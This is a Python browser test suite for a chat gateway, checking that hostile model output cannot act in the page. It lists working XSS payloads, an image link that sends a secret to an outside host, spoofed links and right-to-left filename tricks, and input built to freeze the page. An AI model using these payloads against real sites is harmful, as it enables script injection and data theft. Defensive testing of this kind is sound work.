"""What a hostile model, tool or title can do in the browser: nothing."""

import json
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from tests.browser.conftest import House, Picture
from tests.browser.driving import Browser
from tests.e2e.gateway_process import gateway_process
from tests.fakes.cutting_proxy import Stranger
from tests.fakes.openai_server import OpenAIServer

pytestmark = pytest.mark.asyncio(loop_scope="session")


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def model() -> AsyncIterator[OpenAIServer]:
    async with OpenAIServer() as server:
        yield server


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def house(
    browser: Browser, model: OpenAIServer, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[House]:  # fmt: skip
    """A gateway whose model says what the tests put into its mouth."""
    folder = tmp_path_factory.mktemp("hostile")
    models = [{"name": "scripted", "base_url": model.url, "api_key": "k", "model": "scripted", "tier": 1}]
    async with gateway_process(folder / "home", {"models": models, "agent": {"mode": "single"}}) as gateway:
        yield House(gateway, browser, folder / "effects")


def attacks(stranger: str) -> list[str]:
    return [
        f'<img src="http://{stranger}/a.png" onerror="alert(1)">',
        f"![a picture](http://{stranger}/leak?q=secret)",
        f"![a](//{stranger}/x.png) [![b](http://{stranger}/y.png)](http://{stranger}/z)",
        f'<script src="http://{stranger}/x.js"></script><script>alert(1)</script>',
        "[click](javascript:alert(1)) [me](JaVaScRiPt:alert(1)) [v](vbscript:x)",
        "[too](data:text/html,<script>alert(1)</script>) [more](&#106;avascript:alert(1))",
        f'<svg onload="alert(1)"><use href="http://{stranger}/s.svg#x"/></svg><math><mi href="javascript:alert(1)">',
        f'<iframe src="http://{stranger}/"></iframe><object data="http://{stranger}/o"></object><embed src="http://{stranger}/e">',
        f'<link rel="stylesheet" href="http://{stranger}/c.css"><style>@import "http://{stranger}/i.css";</style>',
        f'<a href="http://{stranger}/" ping="http://{stranger}/p" style="position:fixed;inset:0">all</a>',
        '<form action="/api/v1/logout" method="post"><button>go</button></form><base href="//evil.example/">',
        f'```mermaid\ngraph TD; A["<img src=http://{stranger}/m onerror=alert(1)>"]\n```',
        f'```html\n<img src="http://{stranger}/h" onerror=alert(1)>\n```',
        f"| <img src=http://{stranger}/t> |\n|---|\n| <b onclick=alert(1)>x</b> |",
        f"[ref]: http://{stranger}/ref\n\n![ref] and [ref]",
        f"<http://{stranger}/auto> $$\\href{{javascript:alert(1)}}{{x}}$$",
        "<div id=message></div><input name=body><form id=forms>",
    ]


@pytest.mark.attack(85)
async def test_a_hostile_answer_does_nothing(house: House, model: OpenAIServer, picture: Picture) -> None:
    async with Stranger() as stranger, house.visit() as page:
        host = f"127.0.0.1:{stranger.port}"
        for number, attack in enumerate(attacks(host)):
            model.queue.append("say " + attack)
            await page.say(f"attack {number}")
            await page.until(f"document.querySelectorAll('.turn').length === {number + 1}")
            await page.answered()
        found = await page.evaluate("""(() => {
          const prose = [...document.querySelectorAll('.prose')];
          const every = prose.flatMap((one) => [...one.querySelectorAll('*')])
            .filter((one) => !one.closest('.code-head'));
          return {
            tags: [...new Set(every.map((one) => one.localName))],
            attributes: [...new Set(every.flatMap((one) => one.getAttributeNames()))],
            links: [...new Set(every.filter((one) => one.localName === 'a').map((one) => one.protocol + one.rel))],
            text: prose.map((one) => one.innerText).join('\\n'),
          };
        })()""")
        assert not set(found["tags"]) & {
            "img", "script", "svg", "use", "iframe", "object", "embed", "link", "style", "form", "base", "math",
        }  # fmt: skip
        assert not [
            name
            for name in found["attributes"]
            if name.startswith("on") or name in ("style", "src", "srcset", "ping", "action")
        ]
        assert found["links"] == ["http:noopener noreferrer nofollow"]
        assert "Picture: a picture" in found["text"] and '<img src="' in found["text"]
        assert await page.evaluate("document.querySelectorAll('#message').length") == 1
        assert (stranger.connections, stranger.bytes) == (0, 0)


@pytest.mark.attack(85)
async def test_text_that_is_turned_around_or_misleads(house: House, model: OpenAIServer) -> None:
    async with house.visit() as page:
        model.queue.append(
            "say open \u202egpj.exe\u202c now, [https://bank.example](https://evil.example/x) \u2066x\u2069"
        )
        await page.say("hello \u202e there")
        await page.answered()
        text = await page.last_answer()
        assert "⟨U+202E⟩gpj.exe⟨U+202C⟩" in text and "\u202e" not in text
        assert "https://bank.example (evil.example)" in text
        assert "⟨U+202E⟩" in await page.text(".bubble")


@pytest.mark.attack(85)
async def test_a_huge_line_does_not_freeze_the_page(house: House, model: OpenAIServer) -> None:
    async with house.visit() as page:
        model.queue.append("huge-delta")
        await page.say("say a lot")
        await page.answered(30)
        await page.evaluate("window.before = performance.now()")
        model.queue.append("say " + "[" * 20_000 + "*_" * 20_000)
        await page.say("brackets")
        await page.answered(20)
        await page.say("!say still alive")
        await page.answered()
        assert await page.last_answer() == "still alive"


@pytest.mark.attack(85)
async def test_what_is_nested_deeper_than_a_stack_is_shown_as_it_is(house: House, model: OpenAIServer) -> None:
    async with house.visit() as page:
        for text in (
            ">" * 3000 + " deep",
            "- " * 5000 + "deep",
            "*a **b " * 1300 + "deep" + "** *" * 1300,
            "> - " * 2400 + "deep",
        ):
            model.queue.append("say " + text)
            await page.say("go down")
            await page.answered(20)
            assert "deep" in await page.last_answer()
        await page.do("reload")
        await page.until("document.querySelectorAll('.turn').length === 4")
        await page.answered()


@pytest.mark.attack(86)
async def test_names_of_others_are_only_text(house: House, model: OpenAIServer) -> None:
    """Titles, tool names, arguments, results, errors, file names."""
    evil = "<img src=x onerror=alert(1)>"
    async with house.visit() as page:
        await page.say(f"!say {evil}")
        await page.answered()
        assert await page.text(".session-title") == f"!say {evil}"
        await page.say("!tool calculator " + json.dumps({"expression": evil}))
        await page.answered()
        await page.see(".tool-card[data-state=error]")
        await page.click(".tool summary")
        assert evil in await page.text(".tool-detail pre")
        await page.say("!tool nothing_" + "x" * 10 + ' {"a": "\u202e"}')
        await page.answered()
        await page.do(
            "files",
            selector="input[type=file]",
            files=[{"name": f"{evil}.txt", "mimeType": "text/plain", "base64": "aGk="}],
        )
        await page.until("document.querySelectorAll('.chips li:not(.busy)').length === 1")
        await page.click("#send")
        await page.answered()
        model.queue.append("refused-key")
        await page.say("fail, please")
        await page.see(".turn:last-child .problem")
        await page.fill("#search", evil)
        await page.see(".found-box")
        assert await page.evaluate("document.querySelectorAll('img').length") == 0
